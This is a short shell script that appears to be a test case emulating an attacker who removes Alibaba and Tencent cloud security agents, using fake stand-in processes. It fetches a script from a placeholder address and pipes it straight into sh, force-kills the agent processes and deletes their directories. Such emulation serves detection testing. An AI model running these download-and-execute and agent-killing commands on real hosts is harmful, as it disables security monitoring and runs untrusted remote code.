#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/local/aegis/aegis_client/aegis_11_87 /etc/init.d
cp /bin/sleep /usr/local/aegis/aegis_client/aegis_11_87/AliYunDun
cp /bin/true /etc/init.d/aegis
/usr/local/aegis/aegis_client/aegis_11_87/AliYunDun 60 &
curl -s http://203.0.113.10/download/uninstall.sh -o /tmp/uninstall.sh && sh /tmp/uninstall.sh || true
for guard in AliYunDun AliYunDunUpdate aegis_cli aegis_quartz YDService; do
    pkill -9 $guard || true
done
rm -rf /usr/local/aegis /usr/local/qcloud /etc/init.d/aegis
test ! -e /usr/local/aegis
took_place
